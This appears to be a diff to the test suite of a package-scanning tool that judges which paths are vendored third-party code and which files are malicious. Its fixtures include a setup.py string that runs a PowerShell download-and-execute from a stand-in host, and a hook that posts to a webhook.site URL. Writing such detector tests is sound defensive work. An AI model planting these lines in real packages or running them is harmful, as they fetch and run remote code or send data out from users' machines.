@@ -121,6 +121,7 @@ def test_checked_in_tooling_copies_and_type_declarations_are_not_shipping_code(j
     assert path_context("node_modules_backup/x/index.js") == "vendored"
     assert path_context("dist/index.d.ts") == "generated" and path_context("dist/index.d.mts") == "generated"
     assert path_context("src/nodemodules.js") == ""
+    assert path_context("venv/Lib/site-packages/huggingface_hub/hf_api.py") == "vendored"
     assert path_context("pkg-1.0.dist-info/METADATA") == "docs" and path_context("PKG-INFO") == "docs"
     assert path_context("pkg/metadata") == ""
     v = judged(npm("jspkg", {"index.js": "module.exports = 1;\n", ".yarn/releases/yarn-4.0.2.cjs": YARN_RELEASE}), N, "jspkg")
@@ -161,4 +162,14 @@ def test_a_readme_in_wheel_metadata_is_documentation(judged):
     # the same command in code that runs is not documentation
     v = judged(sdist("pkg", {"setup.py": "import os\nos.system('powershell -ExecutionPolicy ByPass -c \"irm https://tool.example/i.ps1 | iex\"')\n" + SETUP,
                              "pkg/__init__.py": ""}), P, "pkg")
+    assert v["label"] == "malicious", v
+
+
+
+def test_a_shipped_virtualenv_is_third_party_code(judged):
+    hook = "import requests\nrequests.post('https://webhook.site/a2176e82-5720-43ee-9e06-f91cb4c91548', json={})\n"
+    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "venv/Lib/site-packages/hub/api.py": hook}), P, "pkg")
+    assert v["label"] == "benign" and v["findings"][0]["evidence"]["context"] == "vendored", v
+    # the same file where the package's own code lives is not
+    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/hub/api.py": hook}), P, "pkg")
     assert v["label"] == "malicious", v
